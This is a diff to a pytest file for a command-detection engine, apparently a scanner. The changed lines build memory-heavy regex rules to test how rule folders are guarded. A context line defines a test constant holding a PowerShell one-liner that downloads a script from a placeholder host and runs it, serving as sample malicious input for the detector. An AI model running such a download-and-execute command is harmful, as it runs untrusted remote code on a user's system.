@@ -12,7 +12,7 @@ import pytest
 from app.commands import EXIT_FLAGGED, EXIT_OK
 from app.commands.rules import guard_rule_folders, run_check
 from app.detection import Engine, Level
-from app.detection.rules import default_rules_dir
+from app.detection.rules import ALWAYS_PER_SET, default_rules_dir
 from app.detection.rulesets import check_rule_paths
 
 MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
@@ -34,10 +34,10 @@ def folder_with(tmp_path: Path, name: str, body: str) -> Path:
 
 def bad_folders(tmp_path: Path) -> dict[str, Path]:
     # patterns that compile one by one but not in the RE2 sets of the patterns with no atom
-    # (too much memory together: rules.ALWAYS_SETS sets of SET_MAX_MEM); no literal of three
-    # characters in them, so the prefilter cannot sort them out of the sets
-    heavy = "".join(rule(f"CUSTOM-HEAVY-{i}", f"[a-z]{{{i + 1}}}[a-z0-9]{{1,900}}y[a-z0-9]{{1,900}}z")
-                    for i in range(128))  # fmt: skip
+    # (too much memory together: a folder's in sets of rules.ALWAYS_PER_SET of SET_MAX_MEM);
+    # no literal of three characters in them, so the prefilter cannot sort them out of the sets
+    heavy = "".join(rule(f"CUSTOM-HEAVY-{i}", f"[a-z]{{{i + 1}}}" + "[a-z0-9]{1,900}y" * 16 + "z")
+                    for i in range(ALWAYS_PER_SET))  # fmt: skip
     return {
         "missing": tmp_path / "no-such-folder",
         "malformed": folder_with(tmp_path, "malformed", "rules: [this is: not: yaml\n"),
